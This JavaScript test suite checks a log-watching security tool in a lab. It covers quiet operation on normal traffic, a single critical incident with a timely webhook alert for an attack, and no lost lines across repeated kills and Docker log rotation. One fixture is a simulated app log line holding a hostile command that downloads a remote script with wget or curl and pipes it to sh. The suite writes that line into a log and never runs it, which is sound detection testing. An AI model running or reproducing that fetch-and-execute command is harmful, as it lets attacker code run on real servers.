// The watcher on the lab's server: quiet in ordinary life, one incident of an attack with its message, nothing lost or
// doubled through kill -9 and Docker's rotation.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { candorCommand, runCandor } from '../lib/candor.mjs';
import { openLab } from '../lib/lab.mjs';
import { hold, until } from '../lib/process.mjs';
import { editService } from '../lib/seed.mjs';

const quietName = 'watch-quiet-in-ordinary-life';
const attackName = 'watch-attack-is-one-incident';
const killName = 'watch-killed-loses-nothing';

const store = '/root/watch';
const config = '/root/watch.yaml';
const hooks = '/root/hooks.ndjson';

/** Takes messages on the server's loopback and writes them down. */
const receiver = `require('node:http').createServer((q, s) => { let b = ''; q.on('data', (d) => { b += d; });
  q.on('end', () => { require('node:fs').appendFileSync('${hooks}', b + '\\n'); s.end(); }); }).listen(18080, '127.0.0.1')`;

/** What the attack of the case leaves in the log of the app: the frames, then a download by the evaluated code. */
const attack = [
  ' ⨯ Error: Command failed: (wget -qO- http://51.81.104.115/1.sh || curl -s http://51.81.104.115/1.sh) | sh',
  '    at execSync (node:child_process:963:15)',
  '    at Object.eval [as then] (eval at <anonymous> (/app/node_modules/next/dist/compiled/next-server/app-page.runtime.prod.js:25:34007), <anonymous>:3:53)',
];

/** @typedef {import('../lib/lab.mjs').Lab} Lab */
/** @typedef {{ id: string, severity: string, title: string, detections: number, stages: { title: string, evidence: { text: string }[] }[] }} Incident */

/** @param {Lab} lab */
async function startWatcher(lab) {
  const args = ['watch', '--store', store, '--config', config, '--no-checks', '--from-start'];
  const watcher = hold([...lab.server.enter, ...candorCommand(args)]);
  await until('the watcher', async () => (await status(lab)).running, { timeoutMs: 30_000, everyMs: 300 });
  return watcher;
}

/** Kills it as the kernel would when memory is short. @param {Lab} lab @param {Awaited<ReturnType<typeof startWatcher>>} watcher */
async function killWatcher(lab, watcher) {
  await lab.server.run(['pkill', '-9', '-f', 'candor.js watch --store']);
  await watcher.stop();
}

/** @param {Lab} lab */
async function status(lab) {
  const { stdout } = await runCandor(lab.server, ['watch', 'status', '--store', store, '--json']);
  return /** @type {{ running: boolean, sources: string[] }} */ (JSON.parse(stdout));
}

/** @param {Lab} lab @returns {Promise<Incident[]>} */
async function incidents(lab) {
  return JSON.parse((await runCandor(lab.server, ['incident', 'list', '--store', store, '--json'])).stdout);
}

/** Lines to the app's log. @param {Lab} lab @param {string} text */
const log = (lab, text) => lab.docker.exec('station-cms-1', ['sh', '-c', 'echo "$1" >/proc/1/fd/2', 'sh', text]);

/** Visitors of the public name, from the internet through the edge. @param {Lab} lab */
async function visit(lab) {
  for (const path of ['/', '/schedule?_rsc=1a2b3', '/schedule?_rsc=1a2b4', '/admin', '/no-such-page'])
    await lab.world.prober.run(['curl', '-sk', '-m', '5', '-o', '/dev/null', `https://192.0.2.5${path}`]);
}

/** @param {Lab} lab */
async function quiet(lab) {
  for (let turn = 0; turn < 4; turn++) await visit(lab);
  await log(lab, '[Episodes.read access] {\n  user: undefined\n}');
  await until('lines of nginx and the app', async () =>
    (await status(lab)).sources.some((one) => one.startsWith('docker:station-cms-1')),
  );
  const found = await incidents(lab);
  if (found.length > 0)
    throw new Error(
      found.map((one) => `${one.severity}: ${one.title}: ${one.stages[0]?.evidence[0]?.text}`).join('\n'),
    );
  return 'no incident';
}

/** @param {Lab} lab */
async function isOneIncident(lab) {
  const began = Date.now();
  await log(lab, attack.join('\n'));
  const messages = await until('a message', async () =>
    (await readFile(`${lab.server.root}${hooks}`, 'utf8')).trim().split('\n'),
  );
  const message = JSON.parse(messages[0] ?? '');
  const toldMs = new Date(message.at).getTime() - began;
  const found = await incidents(lab);
  if (found.length !== 1 || found[0]?.severity !== 'critical')
    throw new Error(
      `expected one critical incident: ${found.map((one) => `${one.severity} ${one.title}: ${one.stages.map((stage) => stage.title)}`).join(' | ')}`,
    );
  if (toldMs > 2000) throw new Error(`the first alert came after ${toldMs} ms`);
  const shown = await runCandor(lab.server, ['incident', 'show', found[0].id, '--store', store]);
  if (!shown.stdout.includes('candor evidence preserve station-cms-1')) throw new Error(shown.stdout);
  return `${found[0].title}; alert after ${toldMs} ms`;
}

/** Lines while the watcher is killed again and again; the log is rotated by Docker meanwhile.
 * @param {Lab} lab @param {{ watcher: Awaited<ReturnType<typeof startWatcher>> }} running */
async function killed(lab, running) {
  const count = 6000;
  const pad = 'x'.repeat(400);
  const loop = `i=0; while [ $i -lt ${count} ]; do i=$((i+1)); echo "tick $i of the lab ${pad}"; done >/proc/1/fd/2`;
  const writing = lab.docker.exec('station-newsletter-1', ['sh', '-c', loop]);
  for (let turn = 0; turn < 3; turn++) {
    await new Promise((resolve) => setTimeout(resolve, 400));
    await killWatcher(lab, running.watcher);
    running.watcher = await startWatcher(lab);
  }
  await writing;
  const search = ['search', 'of the lab', '--store', store, '--limit', '100000', '--json'];
  const numbers = await until(
    'all lines',
    async () => {
      const { stdout } = await runCandor(lab.server, search);
      const found = [...stdout.matchAll(/tick (\d+) of the lab/g)].map((match) => Number(match[1]));
      return found.length >= count ? found : null;
    },
    { timeoutMs: 30_000, everyMs: 500 },
  );
  if (numbers.length !== count || new Set(numbers).size !== count)
    throw new Error(`${numbers.length} lines, ${new Set(numbers).size} different, of ${count}`);
  return `${count} lines once each, through three kills`;
}

/** Names of the cases. */
export async function cases() {
  return [quietName, attackName, killName];
}

/** @type {import('../lib/tally.mjs').SuiteRun} */
export async function run(tally, wants, { moves }) {
  if (moves) return;
  const lab = await openLab();
  try {
    await editService(lab, 'newsletter', (service) => {
      Object.assign(service, { logging: { driver: 'json-file', options: { 'max-size': '1m', 'max-file': '3' } } });
    });
    await mkdir(`${lab.server.root}${store}`, { recursive: true });
    const channel = '{ type: webhook, url: "http://127.0.0.1:18080/" }';
    await writeFile(`${lab.server.root}${config}`, `watch:\n  alerts:\n    channels: [${channel}]\n`);
    const hook = hold([...lab.server.enter, '/usr/bin/node', '-e', receiver]);
    const running = { watcher: await startWatcher(lab) };
    try {
      if (wants(quietName)) await tally.run(quietName, () => quiet(lab));
      if (wants(attackName)) await tally.run(attackName, () => isOneIncident(lab));
      if (wants(killName)) await tally.run(killName, () => killed(lab, running));
    } finally {
      await killWatcher(lab, running.watcher);
      await lab.server.run(['pkill', '-9', '-f', 'createServer']);
      await hook.stop();
    }
  } finally {
    await lab.close();
  }
}
